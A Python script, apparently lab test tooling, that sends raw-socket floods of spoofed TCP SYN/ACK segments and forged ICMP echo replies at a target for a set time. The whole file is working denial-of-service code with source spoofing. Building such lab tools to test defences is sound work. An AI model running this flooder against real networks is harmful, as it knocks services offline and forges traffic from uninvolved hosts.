#!/usr/bin/env python3
"""flood: spoofed packets from a raw socket, as fast as Python goes, for the lab's
attack scenarios (tests/lab/t_attack.sh).

    flood.py ack|syn DST DPORT SECONDS    TCP segments from sources drawn from
                                          198.18.0.0/15 (the benchmarking range:
                                          nothing in the lab answers for it)
    flood.py echoreply DST SRC SECONDS    ICMP echo replies "from" SRC (a real server,
                                          say), random identifier, sequence and payload
Prints the number of packets sent.
"""
import random
import socket
import struct
import sys
import time


def csum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    s = (s & 0xFFFF) + (s >> 16)
    s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def segment(src, dst, sport, dport, flags):
    tcp = struct.pack("!HHIIBBHHH", sport, dport, random.getrandbits(32),
                      random.getrandbits(32), 5 << 4, flags, 65535, 0, 0)
    ph = src + dst + struct.pack("!BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", csum(ph + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, 0, 0x4000, 64, 6, 0, src, dst)
    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
    return ip + tcp


def echo_reply(src, dst):
    data = random.randbytes(32)
    icmp = struct.pack("!BBHHH", 0, 0, 0, random.getrandbits(16), random.getrandbits(16))
    icmp = icmp[:2] + struct.pack("!H", csum(icmp + data)) + icmp[4:] + data
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(icmp), 0, 0, 64, 1, 0, src, dst)
    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
    return ip + icmp


def main():
    kind, dst, secs = sys.argv[1], sys.argv[2], float(sys.argv[4])
    d = socket.inet_aton(dst)
    pkts = []
    if kind == "echoreply":
        src = socket.inet_aton(sys.argv[3])
        pkts = [echo_reply(src, d) for _ in range(4096)]
    else:
        flags = {"ack": 0x10, "syn": 0x02}[kind]
        dport = int(sys.argv[3])
        for i in range(4096):
            src = struct.pack("!I", 0xC6120000 + random.randrange(1 << 17))
            pkts.append(segment(src, d, 1024 + random.randrange(60000), dport, flags))
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.setsockopt(socket.SOL_IP, socket.IP_HDRINCL, 1)
    sent, end, addr = 0, time.monotonic() + secs, (dst, 0)
    while time.monotonic() < end:
        for p in pkts[:1024] if sent % 4096 else pkts:
            try:
                s.sendto(p, addr)
                sent += 1
            except OSError:     # a full socket buffer: the link is saturated
                pass
    print(sent)


if __name__ == "__main__":
    main()
